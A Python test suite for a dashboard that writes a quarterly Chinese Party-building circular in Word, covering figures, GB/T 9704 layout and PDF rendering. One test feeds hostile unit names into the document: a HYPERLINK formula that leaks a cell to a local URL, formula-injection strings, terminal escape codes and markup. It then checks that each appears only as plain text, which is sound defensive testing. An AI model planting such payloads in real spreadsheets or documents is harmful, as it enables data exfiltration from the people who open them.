"""The quarterly 通报 (dashboard/briefing.py gathers it, dashboard/output/briefing.py writes it).

The document is opened with python-docx and read as a person reads it: the title, the 主送 line,
the headings 一、二、三…, and every number in its sentences and tables, each compared with the
named query behind it, rerun here on the store (or with the demo's known facts: 13 returns due
for 2024Q4, 11 in).  Then the form of a circular: fonts named for Chinese Word, A4 with GB/T 9704
margins, a PAGE field in the footers; ties at the bottom of a ranking stated whole; hostile unit
names as plain text.  Last, LibreOffice renders it to PDF and poppler to one PNG per page under
artifacts/briefing/ (kept for a person to look at).
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from docx import Document
from docx.enum.section import WD_SECTION
from docx.oxml.ns import qn
from docx.table import Table
from docx.text.paragraph import Paragraph

from dashboard import briefing, cli, clock
from dashboard.db import Store
from dashboard.domain import analysis, figures, periods
from dashboard.domain.catalog import catalog
from dashboard.output import briefing as out
from dashboard.output import charts, style
from dashboard.settings import ROOT
from dashboard.settings import current as settings
from tests.support.figures import iv
from tests.support.hostile import build_db

QUARTER = "2024Q4"
ARTIFACTS = ROOT / "artifacts" / "briefing"


@pytest.fixture(scope="module")
def demo_db(demo_db_file, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("briefing") / "demo.duckdb"
    shutil.copy(demo_db_file, path)
    return path


@pytest.fixture(scope="module")
def made(demo_db):
    """SW's circular for 2024Q4 with its charts drawn (Chromium), as .docx bytes."""
    with Store(demo_db) as store:
        facts = briefing.gather(store, "SW", QUARTER)
    data, problem = out.build(facts)
    assert problem is None, problem
    return data


@pytest.fixture(scope="module")
def doc(made):
    return Document(io.BytesIO(made))


@pytest.fixture
def store(demo_db):
    with Store(demo_db) as s:
        yield s


def blocks(document) -> list[tuple[str, str | None, object]]:
    """The body in order: ("p", style, text) for a paragraph, ("table", None, rows of cell texts)."""
    found = []
    for el in document.element.body.iterchildren():
        if el.tag == qn("w:p"):
            p = Paragraph(el, document)
            found.append(("p", p.style.name, p.text))
        elif el.tag == qn("w:tbl"):
            found.append(("table", None, [[c.text for c in row.cells] for row in Table(el, document).rows]))
    return found


def section(document, heading: str, style_name: str = "Heading 1") -> list:
    """The blocks after the heading (of `style_name`) whose text ends with `heading`, up to the next
    heading of that level or above."""
    levels = ["Heading 1", "Heading 2"][: ["Heading 1", "Heading 2"].index(style_name) + 1]
    out_, inside = [], False
    for kind, st, content in blocks(document):
        if kind == "p" and st in levels:
            if inside:
                break
            inside = st == style_name and content.endswith(heading)
            continue
        if inside:
            out_.append((kind, st, content))
    assert out_, f"no section {heading}"
    return out_


def number(text: str) -> float:
    return float(text.replace(",", ""))


def tolerance(value_type: str) -> float:
    return {"count": 0, "money": 0.005, "rate": 0.05, "stars": 0.005, "score": 0.05}.get(value_type, 0.005) + 1e-9


def text_of(document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [c.text for row in table.rows for c in row.cells]
    return "\n".join(parts)


# --- what it says --------------------------------------------------------------------------------


def test_title_addressees_and_numbered_headings(doc):
    paras = [(p.style.name, p.text) for p in doc.paragraphs if p.text.strip()]
    assert paras[0][1] == "市水务局党组"  # the masthead
    assert ("Title", "市水务局党组关于\n2024年第四季度党建工作情况的通报") in paras  # broken by hand (GB/T 9704 7.3.1)
    assert ("Normal", "各党委、党总支、党支部：") in paras  # 主送: the levels under the party group
    first = [text for st, text in paras if st == "Heading 1"]
    assert first == ["一、总体情况", "二、报送情况", "三、各领域工作情况", "四、“三会一课”落实情况", "五、下一步工作要求"]
    second = [text for st, text in paras if st == "Heading 2"]
    domains = catalog().domains  # from data/domains.csv, in its order
    numerals = "一,二,三,四,五,六,七,八,九,十,十一,十二,十三,十四,十五,十六,十七".split(",")
    assert len(domains) <= len(numerals)
    assert second == [f"（{numerals[i]}）{d.name_zh}" for i, d in enumerate(domains)]
    next_steps = section(doc, "下一步工作要求")
    assert next_steps[0][2] == "（此处由办公室填写下一步工作要求。）"  # left for the office to write


def test_returns_due_and_in_equal_the_status_query(doc, store):
    tree = store.tree_at(QUARTER)
    reporting = [u.code for u in tree.subtree("SW") if tree.is_reporting(u.code)]
    deadline = (periods.quarter_end(QUARTER) + pd.Timedelta(days=settings().deadline_days)).date().isoformat()
    status = store.query("submission_status", units=reporting, quarters=[QUARTER] * len(reporting),
                         deadlines=[deadline] * len(reporting), today=clock.today().isoformat())
    counts = status["status"].value_counts()
    done = int(counts.get("submitted", 0) + counts.get("late", 0))
    assert (len(status), done) == (13, 11)  # the demo's facts: 13 returns due for 2024Q4, 11 in
    overview = [c for k, _, c in section(doc, "总体情况") if k == "p"]
    assert overview[0] == (f"本季度应报{len(status)}个单位，已报{done}个（其中逾期{int(counts.get('late', 0))}个），"
                           f"未报{len(status) - done}个。")
    said = " ".join(c for k, _, c in section(doc, "报送情况") if k == "p")
    for _, row in status[status["status"] == "late"].iterrows():
        day = pd.Timestamp(row["submitted_at"])
        assert f"{row['unit_name_zh']}（{day.year}年{day.month}月{day.day}日报送）" in said
    missing = status.loc[status["status"] == "missing", "unit_name_zh"].tolist()
    assert f"未报送{len(missing)}个单位：{'、'.join(missing)}。" in said
    assert f"按时报送{int(counts.get('submitted', 0))}个单位。" in said


def _like_for_like(store, code: str, now_q: str, before_q: str) -> tuple[float | None, tuple | None]:
    """SW's change of count indicator `code` from `before_q` to `now_q` counted from the raw facts of
    the returns that came in in both quarters; and (returns counted, returns due) if that left some
    return due out, else None."""
    subs = store.table("submissions")
    active = subs[subs["status"] == "active"]
    came = {q: set(active.loc[active["quarter"] == q, "unit_code"]) for q in (now_q, before_q)}
    due = {q: set(analysis.expected_returns(store.history(), ["SW"], [q], whole=True)["units"])
           for q in (now_q, before_q)}
    common = came[now_q] & came[before_q]
    if not common:
        return None, None
    facts = store.table("facts").merge(active[["id", "unit_code"]].rename(
        columns={"id": "submission_id", "unit_code": "return_unit"}))
    mine = facts[(facts["indicator_code"] == code) & facts["return_unit"].isin(common)]
    delta = mine.loc[mine["quarter"] == now_q, "value"].sum() - mine.loc[mine["quarter"] == before_q, "value"].sum()
    return float(delta), (None if common == due[now_q] == due[before_q] else (len(common), len(due[now_q])))


def test_headline_figures_and_their_change_equal_the_query(doc, store):
    """The value is the figure of the quarter; its change on the previous quarter counts only the
    returns that came in in both (as the overview), and says so when that leaves a return out."""
    cat = store.catalog
    rows = {r[0]: r for r in next(c for k, _, c in section(doc, "总体情况") if k == "table")[1:]}
    sentence = [c for k, _, c in section(doc, "总体情况") if k == "p"][1]
    heads = cat.headlines  # the overview's domains: the other domains speak in their own sections
    shown, partial = 0, set()
    for ind in heads:
        ref = analysis.reference_quarter(ind.quarters, QUARTER)  # stars are rated in Q1 only

        def value(q):
            got = iv(store, units=["SW"], indicators=[ind.code], **{"from": q, "to": q})
            return got["value"].iloc[0] if len(got) else None

        now = value(ref)
        name = out.chinese_punctuation(ind.name_zh)  # 党员总数（含预备）: full-width in running text
        if now is None:  # no figure this quarter (党员突击队 outside the flood season): not listed
            assert name not in rows and name not in sentence
            continue
        shown += 1
        row = rows[name]
        assert row[1] == ref and row[7] == ind.unit_zh
        assert abs(number(row[2]) - now) <= tolerance(ind.value_type), ind.code
        if ind.value_type == "count" and ind.quarters == "all" and ind.unit_agg == "sum" and not ind.is_derived:
            delta, some = _like_for_like(store, ind.code, ref, periods.shift(ref, -1))
            assert delta is not None, ind.code
            assert abs(number(row[4]) - delta) <= tolerance(ind.value_type), ind.code
            change = "持平" if delta == 0 else f"{'增加' if delta > 0 else '减少'}{abs(delta):,.0f}{ind.unit_zh}"
            said = f"{name}{now:,.0f}{ind.unit_zh}，较上季度{change}"
            assert said in sentence, (said, sentence)
            partial.add(some)
    assert shown == len(rows) >= 5
    # the demo misses returns in 2024Q4: the changes count only the units in both quarters, said once
    assert partial == {(10, 13)}, partial
    assert sentence.endswith("。以上较上季度增减均为同口径比较，仅计两季度均已报送的10个单位（应报13个）。"), sentence


def _expected_ranking(store, domain: str, quarter: str):
    """The ranking the pages show for the sub-units of SW (figures.ranking: the overview's bottom list,
    the domain page and the projector ask it alike); tests/oracle checks it against a recomputation."""
    ind = store.catalog[store.catalog.headline(domain)]
    ref = analysis.reference_quarter(ind.quarters, quarter)
    units = analysis.scope_units(store.tree(), ["SW"], [ref], store.history())
    return figures.ranking(figures.Source.of_store(store), units, [ref], ref, ind.code), ref


@pytest.mark.parametrize("domain", [d.code for d in catalog().domains])
def test_each_domain_ranks_the_sub_units_as_the_pages_do(doc, store, domain):
    d = store.catalog.domain(domain)
    rank, ref = _expected_ranking(store, domain, QUARTER)
    ind = rank.indicator
    part = section(doc, d.name_zh, "Heading 2")
    tables = [c for k, _, c in part if k == "table"]
    said = " ".join(c for k, _, c in part if k == "p")
    if not rank.n_ranked:  # e.g. no flood figures in Q4: said, not ranked
        assert tables == []
        return
    (table,) = tables
    fr = rank.frame
    fmt = charts.number_format(ind.value_type if rank.measure == "raw" else "score", fr["value"])
    grouped = fr["group"].nunique() > 1  # committees and branches ranked apart: the table says which
    assert table[0] == ["名次", *(["层级"] if grouped else []), "单位",
                        out.chinese_punctuation(f"{ind.name_zh}（{rank.unit}）")]
    assert [r[-2] for r in table[1:]] == fr["unit_name"].tolist()
    for row, r in zip(table[1:], fr.itertuples()):
        if grouped:
            assert row[1] == {"committee": "党委·党总支", "branch": "党支部"}[r.group], r.unit_code
        if pd.isna(r.value):
            assert row[0] == "—" and row[-1] == figures.state_text(r.state), r.unit_code
        else:
            assert row[-1] == format(r.value, fmt), r.unit_code  # the chart's figure, as many decimals as tell apart
            assert int(row[0]) == r.rank, r.unit_code
    if not ind.names_laggards:
        assert "不据以点名" in said and "排名靠后的是" not in said
    for g in rank.bottom:
        assert all(n in said for n in g["names"]) or f"{len(g['names'])}个单位并列" in said
    if ind.headline:
        total = iv(store, units=["SW"], indicators=[ind.code], **{"from": ref, "to": ref})["value"].iloc[0]
        assert out.chinese_punctuation(f"{periods.quarter_label(ref)}{ind.name_zh}{number_text(total, ind)}{ind.unit_zh}") in said


def number_text(value, ind) -> str:
    return {"count": f"{value:,.0f}", "rate": f"{value:.1f}", "money": f"{value:,.2f}"}.get(ind.value_type,
                                                                                            f"{value:.2f}")


def test_the_charts_are_drawn_one_per_ranked_domain(made, doc, store):
    ranked = [d for d in store.catalog.domains if _expected_ranking(store, d.code, QUARTER)[0].n_ranked]
    assert len(doc.inline_shapes) == len(ranked) >= 4
    with zipfile.ZipFile(io.BytesIO(made)) as z:
        pngs = [z.read(n) for n in z.namelist() if n.startswith("word/media/")]
    assert len(pngs) == len(ranked)
    for png in pngs:
        assert png[:8] == b"\x89PNG\r\n\x1a\n"
        width = int.from_bytes(png[16:20], "big")
        assert width == out.CHART_WIDTH_PX * 2  # drawn at twice the size, sharp in print


def test_a_tie_at_the_bottom_is_stated_whole_and_discipline_names_nobody(doc, store):
    """接收预备党员 per 100 members in 2024Q4: five committees at 0, counted, none named; 四种形态 names nobody."""
    rank, _ = _expected_ranking(store, "members", QUARTER)
    (g,) = rank.bottom
    assert len(g["units"]) == 5 and g["value"] == 0
    (bottom,) = [c for k, _, c in section(doc, "发展党员", "Heading 2") if k == "p" and c.startswith("排名靠后")]
    assert bottom.startswith("排名靠后的是：党委·党总支中5个单位并列为0"), bottom
    assert not any(name in bottom for name in g["names"])
    said = [c for k, _, c in section(doc, "纪律执纪", "Heading 2") if k == "p"]
    assert not any(c.startswith("排名靠后") for c in said)
    assert any("不据以点名" in c for c in said)


def test_三会一课_shortfalls_equal_the_query(store):
    quarter = "2024Q3"  # the demo has branches short of 三会一课 in 2024Q3 (none in 2024Q4)
    document = Document(io.BytesIO(out.document(briefing.gather(store, "SW", quarter))))
    groups = [k.code for k in store.tree().kids("SW") if k.active_in(quarter)]
    params = analysis.compliance_params(groups, quarter, quarter)
    shares = store.query("compliance_shares", **params)
    every = shares[shares["rule"] == "all_ok"]
    short = store.query("compliance_short", **params, limit=1000)
    n_short = int(short["n_short"].iloc[0])
    assert n_short == int(every["branch_quarters"].sum() - every["n_ok"].sum()) > 0
    part = section(document, "“三会一课”落实情况")
    said = " ".join(c for k, _, c in part if k == "p")
    assert (f"报送“三会一课”数据的支部{int(every['branch_quarters'].sum())}个，全部达标{int(every['n_ok'].sum())}个，"
            f"未达标{n_short}个") in said
    (table,) = [c for k, _, c in part if k == "table"]
    assert [(r[0], r[1]) for r in table[1:]] == list(zip(short["group_name_zh"], short["unit_name_zh"]))
    for row, reported in zip(table[1:], short["reported"]):
        assert [number(x) for x in row[2:]] == [float(v) for v in reported]


def test_a_demo_database_says_so(doc):
    assert any("演示数据" in p.text and p.runs[0].font.color.rgb == out.RED for p in doc.paragraphs)


# --- the form of a circular ------------------------------------------------------------------------


def _east_asia(element) -> str | None:
    fonts = element.find(qn("w:rPr") + "/" + qn("w:rFonts"))
    return None if fonts is None else fonts.get(qn("w:eastAsia"))


def test_fonts_are_named_for_chinese_word(doc):
    for name, font in (("Body Text", "仿宋"), ("Normal", "仿宋"), ("Heading 1", "黑体"), ("Heading 2", "楷体")):
        s = doc.styles[name].element
        assert _east_asia(s) == font, name
        assert s.find(qn("w:rPr") + "/" + qn("w:rFonts")).get(qn("w:eastAsiaTheme")) is None  # no theme overrides
    by_style = {"Body Text": style.DOC_BODY_FONT, "Heading 1": "黑体", "Heading 2": "楷体",
                "Title": style.DOC_TITLE_FONT}
    for p in doc.paragraphs:
        for run in p.runs:
            if p.style.name in by_style:
                assert _east_asia(run._element) == by_style[p.style.name], p.text
    assert doc.styles["Body Text"].font.size.pt == 16  # 三号
    header = doc.tables[0].rows[0].cells[0].paragraphs[0].runs[0]._element
    body = doc.tables[0].rows[1].cells[1].paragraphs[0].runs[0]._element
    assert (_east_asia(header), _east_asia(body)) == ("黑体", "仿宋")


def test_a4_with_gbt9704_margins(doc):
    s = doc.sections[0]
    mm = [round(x.mm, 1) for x in (s.page_width, s.page_height, s.top_margin, s.bottom_margin, s.left_margin,
                                   s.right_margin)]
    assert mm == [210.0, 297.0, 37.0, 35.0, 28.0, 26.0]  # A4; GB/T 9704: 37 top, 35 bottom, 28 left, 26 right


def test_page_numbers_are_a_page_field_in_both_footers(doc):
    assert doc.settings.odd_and_even_pages_header_footer
    s = doc.sections[0]
    for footer in (s.footer, s.even_page_footer):
        xml = footer._element.xml
        assert re.search(r"<w:instrText[^>]*>\s*PAGE\s*</w:instrText>", xml)
        assert [c.get(qn("w:fldCharType")) for c in footer._element.iter(qn("w:fldChar"))] == [
            "begin", "separate", "end"]
        assert footer.paragraphs[0].text == "— 1 —"


# --- names typed by people -------------------------------------------------------------------------

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"详情")'
MARKUP = "**粗体** [点我](http://127.0.0.1:9/) <b>x</b> { PAGE }"
HOSTILE = [  # code, name_zh, name_en, level, parent
    ("G", LEAK, "=1+2", "party_group", None),
    ("C1", MARKUP, "+SUM(1,2)", "committee", "G"),
    ("C1B1", "@SUM(1+1)", "-1+2", "branch", "C1"),
    ("C1B2", "x\r=1+2\x1b[2J", "\t=1+2", "branch", "C1"),
    ("C2", "x\r=1+2\x1b[2J\t", "\n-2+3", "general_branch", "G"),
    ("C2B1", "y\n=5", "Branch", "branch", "C2"),
]


def test_hostile_unit_names_are_plain_text(tmp_path):
    db = build_db(tmp_path / "hostile.duckdb", HOSTILE, user="=1+2", file_name="=x.xlsx", past_the_rules=True)
    with Store(db) as store:
        facts = briefing.gather(store, "G", "2024Q2")
    data = out.document(facts)
    document = Document(io.BytesIO(data))
    text = text_of(document)
    leak = out.chinese_punctuation(LEAK)  # （…详情"）: full-width around Chinese, and nothing else changed
    masthead = next(p for p in document.paragraphs if p.text)
    assert masthead.text == leak  # the masthead, as typed: text, not a formula or a field
    title = next(p for p in document.paragraphs if p.style.name == "Title")
    assert title.text.replace("\n", "") == f"{leak}关于2024年第二季度党建工作情况的通报"  # broken into lines by hand
    assert MARKUP in text  # markdown, HTML and braces stay characters
    assert "x\\r=1+2\\x1b[2J\\t" in text  # control characters shown, not obeyed
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml") or n.endswith(".rels")}
    everything = "".join(parts.values())
    assert "\x1b" not in everything and "\r" not in "".join(document.element.itertext())
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", everything)
    assert {i.strip() for i in instructions} == {"PAGE"}  # the page numbers' field, and nothing from a name
    assert "<w:hyperlink" not in everything and "fldSimple" not in everything
    assert "hyperlink" not in parts["word/_rels/document.xml.rels"]
    body = parts["word/document.xml"]
    title_xml = "".join(re.findall(r'<w:p>(?:(?!</w:p>).)*?<w:pStyle w:val="Title"/>.*?</w:p>', body))
    assert body.count("<w:br/>") == title_xml.count("<w:br/>") == title.text.count("\n")  # only the title's own breaks
    assert body.count("<w:tab/>") == 1  # the 版记's 印发机关 … 印发日期: no name broke a column


# --- the command and the page ----------------------------------------------------------------------


def test_the_command_writes_the_document(demo_db, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("DANGJIAN_CHROMIUM", str(tmp_path / "no-chromium"))  # no browser: said, not fatal
    target = tmp_path / "通报.docx"
    code = cli.main(["briefing", "--db", str(demo_db), "--unit", "SW", "--period", "2024q4", "--out", str(target)])
    err = capsys.readouterr()
    assert code == cli.EXIT_OK
    assert "已生成通报：市水务局党组 2024Q4" in err.out
    assert "未找到 Chromium" in err.err and "Chromium (" in err.err and "were not drawn" in err.err
    document = Document(str(target))
    assert any(p.text.startswith("（图表未能生成：未找到 Chromium") for p in document.paragraphs)
    assert len(document.inline_shapes) == 0


def test_pdf_without_libreoffice_is_refused_in_both_languages(demo_db, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("DANGJIAN_SOFFICE", str(tmp_path / "no-soffice"))
    target = tmp_path / "通报.pdf"
    code = cli.main(["briefing", "--db", str(demo_db), "--unit", "SW", "--period", "2024Q4", "--out", str(target),
                     "--format", "pdf"])
    err = capsys.readouterr().err
    assert code == cli.EXIT_REJECTED
    assert "未找到 LibreOffice" in err and "LibreOffice (" in err and "no PDF can be made" in err
    assert not target.exists()


def test_bad_arguments_exit_2(demo_db, tmp_path, capsys):
    base = ["briefing", "--db", str(demo_db), "--out", str(tmp_path / "x.docx")]
    assert cli.main([*base, "--unit", "NOPE", "--period", "2024Q4"]) == cli.EXIT_USAGE
    assert "未知单位 NOPE" in capsys.readouterr().err
    with pytest.raises(SystemExit) as caught:  # argparse: not a quarter
        cli.main([*base, "--unit", "SW", "--period", "2024Q5"])
    assert caught.value.code == cli.EXIT_USAGE
    assert not (tmp_path / "x.docx").exists()


def test_the_overview_offers_the_briefing(demo_db_file, tmp_path, monkeypatch):
    from tests.support.apptest import assert_clean, forget, open_app

    path = tmp_path / "app.duckdb"
    shutil.copy(demo_db_file, path)
    monkeypatch.setenv("DANGJIAN_DB", str(path))
    try:
        at = open_app()
        assert_clean(at)
        (button,) = [b for b in at.get("download_button") if b.proto.label == "下载2024年第四季度通报（Word）"]
        assert "overview_briefing" in button.proto.id
        at.sidebar.segmented_control(key="lang").set_value("en").run()
        assert any(b.proto.label == "Download the briefing for Q4 2024 (Word)" for b in at.get("download_button"))
    finally:
        forget()


# --- rendered ----------------------------------------------------------------------------------------


OFFICE = pytest.mark.skipif(out.soffice_path() is None or shutil.which("pdftoppm") is None,
                            reason="LibreOffice and poppler-utils are installed by `make test` (make office-deps)")
CJK_LINE = re.compile(r"^[\u3000-\u303f\u3400-\u9fff\uff00-\uffef“”]+$")  # Chinese and its punctuation only


def render(docx: bytes, name: str) -> tuple[bytes, list[str], list[Path]]:
    """The PDF LibreOffice makes of `docx`, its text per page (pdftotext -layout) and one PNG per page
    under artifacts/briefing/ (kept for a person to look at)."""
    pdf = out.to_pdf(docx)
    assert pdf[:5] == b"%PDF-"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for old in ARTIFACTS.glob(f"{name}-*.png"):
        old.unlink()
    (ARTIFACTS / f"{name}.docx").write_bytes(docx)
    (ARTIFACTS / f"{name}.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "80", "-png", str(ARTIFACTS / f"{name}.pdf"), str(ARTIFACTS / name)],
                   check=True, timeout=300)
    pages = sorted(ARTIFACTS.glob(f"{name}-*.png"))
    text = subprocess.run(["pdftotext", "-layout", str(ARTIFACTS / f"{name}.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout.split("\f")[:len(pages)]
    return pdf, text, pages


@OFFICE
def test_renders_to_pdf_and_one_png_per_page(made):
    pdf, text, pages = render(made, "通报")
    assert len(pages) == out.pdf_pages(pdf) >= 4
    flat = re.sub(r"\s+", "", text[0])
    assert "市水务局党组关于2024年第四季度党建工作情况的通报" in flat and "一、总体情况" in flat
    last = len(text)
    assert last % 2 == 0  # GB/T 9704 7.4: the 版记 on the last page, an even one
    assert "印发" in text[-1] and not re.search(r"—\s*\d+\s*—", text[-1])  # the 版记 page: no page number
    for n, page in enumerate(text[:-1], 1):
        if page.strip():  # a blank page before the 版记 (7.5) carries no number either
            assert re.search(rf"—\s*{n}\s*—", page), f"page {n} has no page number"
        else:
            assert n == last - 1
    fonts = subprocess.run(["pdffonts", str(ARTIFACTS / "通报.pdf")], capture_output=True, text=True).stdout
    assert "UKai" in fonts and "WenQuanYi" in fonts  # 楷体 and 黑体 headings drawn in faces of their own


@OFFICE
def test_a_full_body_line_holds_28_characters_in_the_pdf(made):
    """GB/T 9704 7.1: 28 characters a line.  Counted on the PDF LibreOffice draws: the lines made of
    Chinese characters and punctuation only (a line with digits is shorter by their narrower width)."""
    _, text, _ = render(made, "通报")
    widths = [len(line.replace(" ", "")) for page in text for line in page.splitlines()
              if CJK_LINE.match(line.replace(" ", "").strip() or "x")]
    assert max(widths) == out.CHARS_PER_LINE, sorted(widths)[-10:]
    assert widths.count(out.CHARS_PER_LINE) >= 1, sorted(widths)[-10:]


# --- GB/T 9704-2012, rule by rule, on the document's XML -----------------------------------------------------


def body_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("word/document.xml").decode("utf-8")


def test_grid_of_28_characters_and_22_lines(doc):
    """7.1: 版心 156 × 225 mm, 28 characters × 22 lines of 3号."""
    grid = doc.sections[0]._sectPr.find(qn("w:docGrid"))
    assert grid.get(qn("w:type")) == "linesAndChars"
    pitch_pt = int(grid.get(qn("w:linePitch"))) / 20
    char_pt = 16 + int(grid.get(qn("w:charSpace"))) / 4096
    width_pt, height_pt = 156 / 25.4 * 72, 225 / 25.4 * 72
    assert 22 * pitch_pt <= height_pt < 23 * pitch_pt
    assert 28 * char_pt <= width_pt < 29 * char_pt
    # the spacing that makes 28 a line where paragraphs do not snap to the grid (LibreOffice), and the
    # body's fixed line at the grid's pitch
    defaults = doc.styles.element.find(qn("w:docDefaults"))
    spacing = int(defaults.find(f"{qn('w:rPrDefault')}/{qn('w:rPr')}/{qn('w:spacing')}").get(qn("w:val"))) / 20
    assert 28 * (16 + spacing) <= width_pt < 29 * (16 + spacing)
    body = doc.styles["Body Text"].paragraph_format
    assert round(body.line_spacing.pt, 2) == pitch_pt and body.line_spacing_rule == 4  # EXACTLY


def test_the_masthead_35mm_down_the_number_centred_and_the_red_separator(doc):
    """7.2: 发文机关标志 red 小标宋 35 mm under the 版心's top; two lines under it the 发文字号, centred;
    the red separator 4 mm under it; the title two lines under the separator."""
    paras = doc.paragraphs
    drop, issuer = paras[0], paras[1]
    assert drop.text == "" and round(drop.paragraph_format.line_spacing.mm) == 35
    assert issuer.text == "市水务局党组" and issuer.alignment == 1
    run = issuer.runs[0]
    assert run.font.color.rgb == out.RED and _east_asia(run._element) == "方正小标宋简体"
    assert [p.text for p in paras[2:4]] == ["", ""]  # 下空二行
    number = paras[4]
    assert number.alignment == 1
    rule = number._p.find(f"{qn('w:pPr')}/{qn('w:pBdr')}/{qn('w:bottom')}")
    assert rule.get(qn("w:color")) == style.excel_rgb(style.PARTY_RED) and int(rule.get(qn("w:space"))) == 11  # 4 mm
    assert [p.text for p in paras[5:7]] == ["", ""] and paras[7].style.name == "Title"


def test_the_doc_number_from_the_command_line_or_settings(demo_db, tmp_path, capsys, monkeypatch):
    assert out.doc_number("水党发[2025]03号", 2025) == "水党发〔2025〕3号"  # 六角括号, no leading zero
    assert out.doc_number("水党发（2025）12", 2025) == "水党发〔2025〕12号"
    for bad in ("第3号", "〔2025〕3号", "水党发2025-3"):
        with pytest.raises(ValueError):
            out.doc_number(bad, 2025)
    with pytest.raises(ValueError):  # a bare serial needs the 机关代字
        out.doc_number("3", 2025)
    monkeypatch.setenv("DANGJIAN_BRIEFING_DOC_PREFIX", "水党发")
    monkeypatch.setenv("DANGJIAN_CHROMIUM", str(tmp_path / "no-chromium"))  # no charts: faster, said
    assert out.doc_number("3", 2025) == "水党发〔2025〕3号"
    target = tmp_path / "n.docx"
    base = ["briefing", "--db", str(demo_db), "--unit", "SW", "--period", "2024Q4", "--out", str(target)]
    assert cli.main([*base, "--doc-number", "7", "--issuer", "中共市水务局党组", "--copy-to", "市直机关工委",
                     "--printed-by", "市水务局党组办公室"]) == cli.EXIT_OK
    document = Document(str(target))
    texts = [p.text for p in document.paragraphs]
    assert texts[1] == "中共市水务局党组" and texts[4] == "水党发〔2024〕7号"  # the year of the period's end
    assert "抄送：市直机关工委。" in texts and "市水务局党组办公室\t2026年12月5日印发".split("\t")[0] in texts[-1]
    capsys.readouterr()
    assert cli.main([*base, "--doc-number", "二〇二五年三号"]) == cli.EXIT_USAGE
    assert "发文字号「二〇二五年三号」格式不对" in capsys.readouterr().err


@pytest.mark.parametrize("parts, lines", [
    (["市水务局党组", "关于", "2024年第四季度", "党建工作情况的通报"], ["市水务局党组关于", "2024年第四季度党建工作情况的通报"]),
    (["机关党委", "关于", "2024年上半年", "党建工作情况的通报"], ["机关党委关于", "2024年上半年党建工作情况的通报"]),
    (["办公室党支部", "关于", "2024年度", "党建工作情况的通报"], ["办公室党支部关于", "2024年度党建工作情况的通报"]),
    (["短标题"], ["短标题"]),
])
def test_the_title_is_broken_into_a_pyramid_at_word_boundaries(parts, lines):
    """7.3.1: lines at word boundaries, no line of one or two characters, a pyramid (梯形) or diamond."""
    got = out.title_lines(parts)
    assert got == lines
    widths = [out.text_width(x) for x in got]
    assert max(widths) <= out.TITLE_MAX_WIDTH and (len(got) == 1 or min(widths) > 2)
    assert widths == sorted(widths)


def test_a_long_unit_name_still_makes_lines_within_the_width():
    got = out.title_lines(["水利部长江水利委员会水文局长江中游水文水资源勘测局机关党委", "关于", "2024年度", "党建工作情况的通报"])
    assert "".join(got) == "水利部长江水利委员会水文局长江中游水文水资源勘测局机关党委关于2024年度党建工作情况的通报"
    assert all(2 < out.text_width(x) <= out.TITLE_MAX_WIDTH for x in got)


def test_the_title_is_two_lines_and_the_addressees_one_line_under_it(doc):
    title = next(p for p in doc.paragraphs if p.style.name == "Title")
    assert title.text.split("\n") == ["市水务局党组关于", "2024年第四季度党建工作情况的通报"]
    paras = doc.paragraphs
    i = paras.index(next(p for p in paras if p.style.name == "Title"))
    assert paras[i + 1].text == ""  # 7.3.2: 标题下空一行
    to = paras[i + 2]
    assert to.text == "各党委、党总支、党支部：" and not to.paragraph_format.first_line_indent  # 居左顶格，全角冒号


def test_signature_and_date_as_7_3_5_1(doc):
    """The date four characters in from the right, the issuer centred over it, one line under the text."""
    paras = doc.paragraphs
    date_at = next(i for i, p in enumerate(paras) if re.fullmatch(r"\d{4}年\d{1,2}月\d{1,2}日", p.text))
    name, day = paras[date_at - 1], paras[date_at]
    assert paras[date_at - 2].text == "" and name.text == "市水务局党组"
    assert name.alignment == day.alignment == 2  # right
    assert day.paragraph_format.right_indent.pt == 64  # 4 characters of 3号
    centred = 64 + 16 * (out.text_width(day.text) - out.text_width(name.text)) / 2
    assert name.paragraph_format.right_indent.pt == pytest.approx(centred)


def test_the_colophon_on_an_even_last_page(doc, made):
    """7.4: 印发机关 and 印发日期 (4号, one character in from each side) between a thick rule above
    and a thick rule below, in a section that starts on an even page and has no page number."""
    last = doc.sections[-1]
    assert len(doc.sections) == 2 and last.start_type == WD_SECTION.EVEN_PAGE
    for footer in (last.footer, last.even_page_footer):
        assert not footer.is_linked_to_previous and footer._element.xpath("string(.)").strip() == ""
    printed = doc.paragraphs[-1]
    issuer, on = printed.text.split("\t")
    assert issuer == "市水务局党组" and re.fullmatch(r"\d{4}年\d{1,2}月\d{1,2}日印发", on)
    assert all(r.font.size.pt == 14 for r in printed.runs)  # 四号
    assert printed.paragraph_format.left_indent.pt == printed.paragraph_format.right_indent.pt == 14
    rules = printed._p.find(f"{qn('w:pPr')}/{qn('w:pBdr')}")
    assert rules.find(qn("w:top")).get(qn("w:sz")) == rules.find(qn("w:bottom")).get(qn("w:sz")) == "8"  # 0.35 mm
    spacer = doc.paragraphs[-2]
    assert spacer.text == "" and spacer.paragraph_format.line_spacing.pt > 500  # the 版记 at the page's foot


def test_language_is_chinese_and_punctuation_full_width(doc, made):
    defaults = doc.styles.element.find(qn("w:docDefaults"))
    lang = defaults.find(f"{qn('w:rPrDefault')}/{qn('w:rPr')}/{qn('w:lang')}")
    assert lang.get(qn("w:val")) == "zh-CN" and lang.get(qn("w:eastAsia")) == "zh-CN"
    assert doc.core_properties.language == "zh-CN"
    words = "".join(re.findall(r"<w:t[^>]*>([^<]*)</w:t>", body_xml(made)))
    half = re.findall(r"[\u4e00-\u9fff](?:[(),:;?]|!(?![A-Z]))|[(),:;?!][\u4e00-\u9fff]", words)  # 学习教育!E7: a cell
    assert half == [], half
    assert "党员总数（含预备）" in words
